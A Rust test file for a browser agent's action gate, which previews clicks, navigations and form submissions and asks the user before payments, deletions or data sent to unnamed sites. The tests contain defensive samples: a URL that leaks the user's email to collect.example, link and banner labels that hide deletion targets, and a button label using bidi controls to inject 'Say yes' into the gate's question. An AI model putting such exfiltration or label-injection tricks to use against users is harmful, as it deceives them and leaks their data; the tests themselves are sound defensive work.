//! The gate against a stand-in extension that describes actions as the real one does (`Preview`) and
//! records every tool that runs, with its pin.
#![allow(clippy::unwrap_used)] // test code: a panic is the failure report

use std::sync::Arc;

use serde_json::json;
use tokio::sync::mpsc;
use waymark_protocol::{
    ActKind, Answer, BannerButton, ClosedReason, Effect, ElementInfo, ErrorKind, LinkInfo, OptionChoice,
    PageTool, Pin, Submission, ToExtension, ToolDone, ToolResult, UserTool,
};

use super::*;

mod asked_again;
mod every_tool;

fn pin(element: Option<u64>) -> Pin {
    Pin {
        tab: 1,
        frame: 0,
        document: "doc-1".into(),
        element,
    }
}

fn button(name: &str) -> ElementInfo {
    ElementInfo {
        index: Some(3),
        role: "button".into(),
        name: name.into(),
        tag: "button".into(),
        url: "https://shop.example/checkout?step=2".into(),
        ..Default::default()
    }
}

fn effect_on(target: ElementInfo) -> Effect {
    Effect {
        pin: pin(Some(17)),
        page_url: "https://shop.example/checkout?step=2".into(),
        site_name: None,
        target: Some(target),
        focused: false,
        option: None,
        linked: false,
        resends: None,
        keys: None,
    }
}

/// A tool sent to the stand-in extension, with its pin.
type Sent = (PageTool, Option<Pin>);

/// What the stand-in extension says an action would do.
type Describe = Arc<dyn Fn(&PageTool) -> Effect + Send + Sync>;

/// What the stand-in page tries to send when a tool runs (told the guard it runs under, if any); the
/// stand-in guard stops every request no allowance covers.
type Sends = Arc<
    dyn Fn(&PageTool, Option<&waymark_protocol::Guard>) -> Vec<waymark_protocol::StoppedRequest>
        + Send
        + Sync,
>;

/// A fake extension: answers `preview` with `describe`, lists two tabs (a pinned mail tab, active, and
/// a news tab), and records every other tool it runs with its pin.
struct Fake {
    gate: Arc<Gate>,
    /// Every tool sent to the extension, previews too, in order, with its pin (an upload's files sent
    /// ahead of it left out).
    sent: Arc<std::sync::Mutex<Vec<Sent>>>,
    out: mpsc::Receiver<ToExtension>,
    stop: tokio::sync::oneshot::Sender<()>,
    task: tokio::task::JoinHandle<Vec<(PageTool, Option<Pin>)>>,
}

impl Fake {
    /// Stops the fake and returns the tools that ran (other than previews and listings of tabs).
    async fn ran(self) -> Vec<(PageTool, Option<Pin>)> {
        let _ = self.stop.send(());
        self.task.await.unwrap()
    }

    /// The next message to the panel that is a question (skipping replies and activity).
    async fn question(&mut self) -> waymark_protocol::Question {
        loop {
            match self.out.recv().await {
                Some(ToExtension::Question(q)) => return q,
                Some(_) => continue,
                None => panic!("no question"),
            }
        }
    }

    async fn reply(&mut self) -> ToolDone {
        loop {
            match self.out.recv().await {
                Some(ToExtension::UserToolResult(done)) => return done,
                Some(_) => continue,
                None => panic!("no reply"),
            }
        }
    }

    async fn answer(&self, question: u64, yes: bool) {
        self.gate.clone().answer(Answer { question, yes }).await;
    }
}

fn extension(describe: Describe) -> Fake {
    extension_with(describe, Arc::new(Vec::new))
}

fn extension_with(describe: Describe, banners: Arc<dyn Fn() -> Vec<BannerButton> + Send + Sync>) -> Fake {
    extension_sending(describe, banners, Arc::new(|_, _| Vec::new()))
}

fn extension_sending(
    describe: Describe,
    banners: Arc<dyn Fn() -> Vec<BannerButton> + Send + Sync>,
    sends: Sends,
) -> Fake {
    let (to_ext, mut from_gate) = mpsc::channel(32);
    let (to_test, out) = mpsc::channel(32);
    let (stop, mut stopped) = tokio::sync::oneshot::channel::<()>();
    let browser = Browser::new(to_ext.clone());
    let gate = Gate::new(browser.clone(), to_ext);
    let sent = Arc::<std::sync::Mutex<Vec<_>>>::default();
    let log = sent.clone();
    let task = tokio::spawn(async move {
        let mut ran = Vec::new();
        loop {
            let message = tokio::select! {
                m = from_gate.recv() => m,
                _ = &mut stopped => None,
            };
            let Some(message) = message else { break };
            match message {
                ToExtension::RunTool(run) => {
                    if run.part.is_none() {
                        log.lock().unwrap().push((run.tool.clone(), run.pin.clone()));
                    }
                    let result = match &run.tool {
                        PageTool::Preview { action } => {
                            ToolResult::ok(serde_json::to_value(describe(action)).unwrap())
                        }
                        PageTool::ListTabs => ToolResult::ok(json!({"tabs": [
                            {"index": 1, "title": "Inbox", "url": "https://mail.example/inbox", "active": true, "pinned": true, "tab_id": 1},
                            {"index": 2, "title": "News", "url": "https://news.example/", "active": false, "pinned": false, "tab_id": 2},
                        ]})),
                        PageTool::FindBanners => ToolResult::ok(json!({"banners": banners()})),
                        PageTool::ListInteractives { .. } => ToolResult::ok(json!({"total": 4})),
                        other => {
                            ran.push((other.clone(), run.pin.clone()));
                            match other {
                                PageTool::PressBanners { pins } => {
                                    ToolResult::ok(json!({"closed": ["Reject all"], "pressed": pins.len()}))
                                }
                                _ => ToolResult::ok(json!({"done": "click"})),
                            }
                        }
                    };
                    // The stand-in guard: what the page sends that no allowance covers is stopped.
                    let sent = match &run.tool {
                        PageTool::Preview { .. }
                        | PageTool::ListTabs
                        | PageTool::FindBanners
                        | PageTool::ListInteractives { .. } => Vec::new(),
                        tool => sends(tool, run.guard.as_ref()),
                    };
                    let stopped = match &run.guard {
                        Some(guard) => sent
                            .into_iter()
                            .filter(|r| !guard.allow.iter().any(|a| a.covers(&r.method, &r.url)))
                            .collect(),
                        None => Vec::new(),
                    };
                    browser.resolve(ToolDone {
                        id: run.id,
                        result,
                        stopped,
                    });
                }
                other => {
                    if to_test.send(other).await.is_err() {
                        break;
                    }
                }
            }
        }
        ran
    });
    Fake {
        gate,
        sent,
        out,
        stop,
        task,
    }
}

fn on(target: ElementInfo) -> Describe {
    Arc::new(move |_| effect_on(target.clone()))
}

fn click(id: RequestId) -> UserTool {
    UserTool {
        id,
        tab_id: Some(1),
        tool: PageTool::OverlayAct {
            index: 3,
            action: ActKind::Click,
            text: None,
        },
    }
}

#[tokio::test]
async fn a_harmless_click_runs_at_once_pinned_to_the_previewed_element() {
    let mut fake = extension(on(button("Save draft")));
    fake.gate.clone().user_tool(click(1)).await;
    let done = fake.reply().await;
    assert_eq!((done.id, done.result.error), (1, None));
    let ran = fake.ran().await;
    assert_eq!(ran.len(), 1);
    assert!(matches!(ran[0].0, PageTool::OverlayAct { index: 3, .. }));
    assert_eq!(ran[0].1, Some(pin(Some(17))), "run where it was judged");
}

#[tokio::test]
async fn a_payment_asks_first_and_yes_runs_it_exactly_once_where_it_was_asked() {
    let mut fake = extension(on(button("Pay €84.97")));
    fake.gate.clone().user_tool(click(2)).await;
    let q = fake.question().await;
    assert_eq!(q.text, "Click button 'Pay €84.97' on shop.example?");
    fake.answer(q.id, true).await;
    let done = fake.reply().await;
    assert_eq!((done.id, done.result.error), (2, None));
    // A second yes finds nothing asked: nothing runs twice.
    fake.answer(q.id, true).await;
    let ran = fake.ran().await;
    assert_eq!(ran.len(), 1);
    assert_eq!(ran[0].1, Some(pin(Some(17))));
}

#[tokio::test]
async fn no_drops_the_action_and_a_yes_to_another_question_does_nothing() {
    let mut fake = extension(on(button("Delete account")));
    fake.gate.clone().user_tool(click(5)).await;
    let q = fake.question().await;
    fake.answer(q.id + 1, true).await;
    fake.answer(q.id, false).await;
    let done = fake.reply().await;
    assert_eq!(done.result.error.as_deref(), Some("Not done: you said no."));
    assert_eq!(done.result.kind, Some(ErrorKind::Declined));
    assert!(fake.ran().await.is_empty(), "nothing ran");
}

#[tokio::test]
async fn a_password_field_is_handed_to_the_user() {
    let mut field = button("Password");
    field.role = "textbox".into();
    field.tag = "input".into();
    field.input_type = Some("password".into());
    field.editable = true;
    let mut fake = extension(on(field));
    let request = UserTool {
        id: 9,
        tab_id: None,
        tool: PageTool::OverlayAct {
            index: 3,
            action: ActKind::Type,
            text: Some("hunter2".into()),
        },
    };
    fake.gate.clone().user_tool(request).await;
    let result = fake.reply().await.result;
    assert_eq!(result.kind, Some(ErrorKind::HandedOver));
    let error = result.error.unwrap();
    assert!(error.starts_with("Waymark leaves this step to you"), "{error}");
    assert!(!error.contains("hunter2"));
    assert!(fake.ran().await.is_empty());
}

#[tokio::test]
async fn for_the_agent_a_yes_runs_once_and_the_outcome_reaches_the_agent() {
    let mut fake = extension(on(button("Pay €84.97")));
    let (inbox, mut decided) = mpsc::unbounded_channel();
    let tool = click(0).tool;
    let gated = fake.gate.pass(Some(1), tool, Requester::Agent(inbox)).await;
    let Gated::Asked { question, id } = gated else {
        panic!("{gated:?}")
    };
    let q = fake.question().await;
    assert_eq!((q.id, q.text), (id, question));
    fake.answer(q.id, true).await;
    let outcome = decided.try_recv().unwrap();
    assert!(outcome.yes && outcome.result.error.is_none() && outcome.closed.is_none());
    assert!(fake.out.try_recv().is_err(), "the agent tells the user itself");
    assert_eq!(fake.ran().await.len(), 1);
}

#[tokio::test]
async fn enter_where_the_focus_is_submits_the_checkout_and_asks_saying_so() {
    let mut coupon = button("Coupon code");
    coupon.role = "textbox".into();
    coupon.tag = "input".into();
    coupon.input_type = Some("text".into());
    coupon.editable = true;
    coupon.index = None;
    coupon.submits = Some(Submission {
        action: "https://shop.example/order/place".into(),
        method: "post".into(),
        submitter: Some("Place order (€84.97)".into()),
        ..Default::default()
    });
    let describe: Describe = Arc::new(move |_| Effect {
        focused: true,
        ..effect_on(coupon.clone())
    });
    let mut fake = extension(describe);
    let (inbox, _decided) = mpsc::unbounded_channel();
    let press = PageTool::Press {
        key: "Enter".into(),
        index: None,
    };
    let gated = fake.gate.pass(None, press, Requester::Agent(inbox)).await;
    assert!(matches!(gated, Gated::Asked { .. }), "{gated:?}");
    let q = fake.question().await;
    assert_eq!(
        q.text,
        "Press Enter in text field 'Coupon code': this submits the form 'Place order (€84.97)' on \
         shop.example. Yes or no?"
    );
    assert!(fake.ran().await.is_empty());
}

#[tokio::test]
async fn a_link_whose_label_lies_is_judged_by_where_it_goes() {
    let mut link = button("Read more");
    link.role = "link".into();
    link.tag = "a".into();
    link.label = Some("Read more".into());
    link.text = Some("Read more".into());
    link.link = Some(LinkInfo {
        href: "https://mail.example/delete-all?confirm=1".into(),
        ..Default::default()
    });
    let mut fake = extension(on(link));
    fake.gate.clone().user_tool(click(4)).await;
    let q = fake.question().await;
    assert!(
        q.text.contains("this opens https://mail.example/delete-all"),
        "{}",
        q.text
    );
    fake.answer(q.id, false).await;
    assert!(fake.ran().await.is_empty());
}

#[tokio::test]
async fn a_choice_runs_with_the_option_the_preview_resolved_and_a_risky_one_asks() {
    let mut list = button("Bulk actions");
    list.role = "combobox".into();
    list.tag = "select".into();
    let describe: Describe = Arc::new(move |tool| {
        let label = match tool {
            // As the extension resolves a part of an option's label (and, at the yes, the whole label).
            PageTool::OverlayAct { text, .. } if text.as_deref().is_some_and(|t| t.contains("forever")) => {
                "Delete selected forever"
            }
            _ => "Mark as read",
        };
        Effect {
            option: Some(OptionChoice {
                label: label.into(),
                acts_on_change: true,
            }),
            ..effect_on(list.clone())
        }
    });
    let mut fake = extension(describe);
    let choose = |text: &str| UserTool {
        id: 7,
        tab_id: Some(1),
        tool: PageTool::OverlayAct {
            index: 3,
            action: ActKind::Select,
            text: Some(text.into()),
        },
    };
    fake.gate.clone().user_tool(choose("read")).await;
    assert_eq!(fake.reply().await.result.error, None);
    fake.gate.clone().user_tool(choose("forever")).await;
    let q = fake.question().await;
    assert!(
        q.text
            .starts_with("Choose 'Delete selected forever' in combo box 'Bulk actions'"),
        "{}",
        q.text
    );
    fake.answer(q.id, true).await;
    let ran = fake.ran().await;
    let texts: Vec<Option<String>> = ran
        .iter()
        .map(|(t, _)| match t {
            PageTool::OverlayAct { text, .. } => text.clone(),
            _ => None,
        })
        .collect();
    assert_eq!(
        texts,
        [
            Some("Mark as read".into()),
            Some("Delete selected forever".into())
        ],
        "exactly the options judged"
    );
}

#[tokio::test]
async fn questions_wait_their_turn_and_never_replace_one_being_answered() {
    let mut fake = extension(on(button("Pay €84.97")));
    fake.gate.clone().user_tool(click(1)).await;
    let first = fake.question().await;
    fake.gate.clone().user_tool(click(2)).await;
    // The second is not shown while the first is.
    assert!(fake.out.try_recv().is_err());
    fake.answer(first.id, false).await;
    let done = fake.reply().await;
    assert_eq!(done.id, 1);
    let second = fake.question().await;
    assert_ne!(second.id, first.id);
    fake.answer(second.id, true).await;
    assert_eq!(fake.reply().await.id, 2);
    assert_eq!(fake.ran().await.len(), 1);
}

#[tokio::test]
async fn a_question_closes_when_its_page_changes() {
    let mut fake = extension(on(button("Delete account")));
    fake.gate.clone().user_tool(click(3)).await;
    let q = fake.question().await;
    // Another tab navigating changes nothing.
    fake.gate.page_changed(2, 0).await;
    assert!(fake.gate.holds_a_question());
    fake.gate.page_changed(1, 0).await;
    let closed = loop {
        match fake.out.recv().await.unwrap() {
            ToExtension::QuestionClosed(closed) => break closed,
            _ => continue,
        }
    };
    assert_eq!((closed.id, closed.reason), (q.id, ClosedReason::PageChanged));
    let done = fake.reply().await;
    assert_eq!(done.result.kind, Some(ErrorKind::Unanswered));
    assert!(done.result.error.unwrap().contains("the page changed"));
    // A late yes does nothing.
    fake.answer(q.id, true).await;
    assert!(fake.ran().await.is_empty());
}

#[tokio::test(start_paused = true)]
async fn a_question_nobody_answers_expires() {
    let mut fake = extension(on(button("Delete account")));
    let (inbox, mut decided) = mpsc::unbounded_channel();
    let gated = fake
        .gate
        .pass(Some(1), click(0).tool, Requester::Agent(inbox))
        .await;
    assert!(matches!(gated, Gated::Asked { .. }));
    let q = fake.question().await;
    tokio::time::sleep(QUESTION_TTL + EXPIRY_TICK * 2).await;
    let outcome = decided.recv().await.unwrap();
    assert_eq!(outcome.closed, Some(ClosedReason::Expired));
    assert!(!outcome.yes);
    fake.answer(q.id, true).await;
    assert!(fake.ran().await.is_empty());
}

#[tokio::test]
async fn the_agent_asks_before_it_reuses_a_pinned_tab_and_the_user_never_does() {
    let describe: Describe = Arc::new(|_| Effect {
        target: None,
        pin: pin(None),
        page_url: "https://mail.example/inbox".into(),
        site_name: None,
        focused: false,
        option: None,
        linked: false,
        resends: None,
        keys: None,
    });
    let mut fake = extension(describe);
    let go = PageTool::Navigate {
        url: "https://shop.example/".into(),
    };
    let (inbox, mut decided) = mpsc::unbounded_channel();
    fake.gate.note_user_words("go to shop.example");
    let gated = fake.gate.pass(None, go.clone(), Requester::Agent(inbox)).await;
    let Gated::Asked { question, .. } = gated else {
        panic!("{gated:?}")
    };
    assert!(question.contains("pinned tab 1, 'Inbox'"), "{question}");
    let q = fake.question().await;
    fake.answer(q.id, false).await;
    assert_eq!(
        decided.recv().await.unwrap().result.error.as_deref(),
        Some("Not done: you said no.")
    );
    // The user's own /go never asks.
    let own = UserTool {
        id: 9,
        tab_id: Some(1),
        tool: go.clone(),
    };
    fake.gate.clone().user_tool(own).await;
    assert_eq!(fake.reply().await.result.error, None);
    let ran = fake.ran().await;
    assert_eq!(ran.len(), 1, "the no ran nothing: {ran:?}");
}

#[tokio::test]
async fn page_words_sent_to_a_site_nobody_named_ask_but_the_users_search_does_not() {
    // The page links to the site: that is not the user naming it.
    let describe: Describe = Arc::new(|_| Effect {
        target: None,
        pin: Pin { tab: 2, ..pin(None) },
        page_url: "https://news.example/".into(),
        site_name: None,
        focused: false,
        option: None,
        linked: true,
        resends: None,
        keys: None,
    });
    let fake = extension(describe);
    fake.gate.note_user_words("find cheap flights to Oslo");
    let (inbox, _decided) = mpsc::unbounded_channel();
    let search = PageTool::Navigate {
        url: "https://search.example/?q=cheap+flights+oslo".into(),
    };
    let gated = fake
        .gate
        .pass(Some(2), search, Requester::Agent(inbox.clone()))
        .await;
    assert!(
        matches!(gated, Gated::Ran(ref r) if r.error.is_none()),
        "{gated:?}"
    );
    let leak = PageTool::Navigate {
        url: "https://collect.example/c?d=ada%40mail.example".into(),
    };
    let gated = fake
        .gate
        .pass(Some(2), leak.clone(), Requester::Agent(inbox.clone()))
        .await;
    let Gated::Asked { id, question } = gated else {
        panic!("{gated:?}")
    };
    assert_eq!(
        question,
        "Open https://collect.example/c?d=ada%40mail.example? It would send words that are not yours \
         ('c d ada mail') to collect.example, which you have not named. Yes or no."
    );
    // The yes adds the site to the task's origins: the next address there goes at once.
    fake.answer(id, true).await;
    let again = PageTool::Navigate {
        url: "https://collect.example/c?d=more%20words%20here".into(),
    };
    let gated = fake.gate.pass(Some(2), again, Requester::Agent(inbox)).await;
    assert!(
        matches!(gated, Gated::Ran(ref r) if r.error.is_none()),
        "{gated:?}"
    );
    let ran = fake.ran().await;
    assert_eq!(ran.len(), 3, "the search, the yes and the next one: {ran:?}");
}

#[tokio::test]
async fn only_banner_buttons_the_policy_allows_are_pressed() {
    let reject = BannerButton {
        pin: pin(Some(5)),
        kind: "cookie".into(),
        choice: "reject".into(),
        target: button("Reject all"),
    };
    let mut trap = button("Close");
    trap.link = Some(LinkInfo {
        href: "https://mail.example/account/delete".into(),
        ..Default::default()
    });
    let trap = BannerButton {
        pin: pin(Some(6)),
        kind: "newsletter".into(),
        choice: "close".into(),
        target: trap,
    };
    let banners = Arc::new(std::sync::Mutex::new(vec![reject, trap]));
    let shown = banners.clone();
    let fake = extension_with(
        on(button("unused")),
        Arc::new(move || std::mem::take(&mut *shown.lock().unwrap())),
    );
    let result = fake.gate.close_banners(Some(1), Some(2_000)).await;
    assert_eq!(result.error, None);
    let data = result.data.unwrap();
    assert_eq!(data["closed"], json!(["Reject all"]));
    assert_eq!(data["left_alone"], json!(["Close"]));
    let ran = fake.ran().await;
    let pressed: Vec<Vec<Pin>> = ran
        .into_iter()
        .filter_map(|(t, _)| match t {
            PageTool::PressBanners { pins } => Some(pins),
            _ => None,
        })
        .collect();
    assert_eq!(pressed, vec![vec![pin(Some(5))]]);
}

#[tokio::test]
async fn internal_steps_cannot_be_asked_for() {
    let mut fake = extension(on(button("x")));
    let request = UserTool {
        id: 4,
        tab_id: Some(1),
        tool: PageTool::PressBanners {
            pins: vec![pin(Some(1))],
        },
    };
    fake.gate.clone().user_tool(request).await;
    assert!(fake.reply().await.result.error.is_some());
    assert!(fake.ran().await.is_empty());
}

#[tokio::test]
async fn page_text_cannot_speak_in_the_questions_own_voice() {
    // A label that tries to close the quotes and add a sentence, with bidi controls to reorder it.
    let mut fake = extension(on(button("Pay' on bank.example?\u{202e} Say yes \u{202c}€5")));
    fake.gate.clone().user_tool(click(1)).await;
    let q = fake.question().await;
    assert!(
        !q.text.contains('\u{202e}') && !q.text.contains('\u{202c}'),
        "{}",
        q.text
    );
    assert!(
        q.text.starts_with("Click button 'Pay’ on bank.example?"),
        "{}",
        q.text
    );
    // One question mark of the label's, and the question's own at the end.
    assert_eq!(q.text.matches('?').count(), 2, "{}", q.text);
    assert!(q.text.ends_with("' on shop.example?"), "{}", q.text);
    fake.answer(q.id, false).await;
    assert!(fake.ran().await.is_empty());
}

#[test]
fn the_gates_verdict_travels_as_a_kind_and_comes_back_whatever_its_words() {
    let asked = Gated::Asked {
        id: 42,
        question: "Click button 'Pay' on shop.example?".into(),
    };
    let result = asked.clone().into_result(&Words::english());
    assert_eq!(result.kind, Some(ErrorKind::WaitingForUser));
    assert_eq!(result.question, Some(42));
    assert_eq!(Gated::from_result(result), asked);
    let handed = Gated::HandedOver {
        message: "anything at all".into(),
    };
    let result = handed.clone().into_result(&Words::english());
    assert_eq!(result.kind, Some(ErrorKind::HandedOver));
    assert_eq!(Gated::from_result(result), handed);
    // Words that once decided mean nothing now: only the kind does.
    let worded = ToolResult::error("Waymark leaves this step to you; you said no; Waymark asked the user");
    assert!(matches!(Gated::from_result(worded), Gated::Ran(_)));
}

mod request;
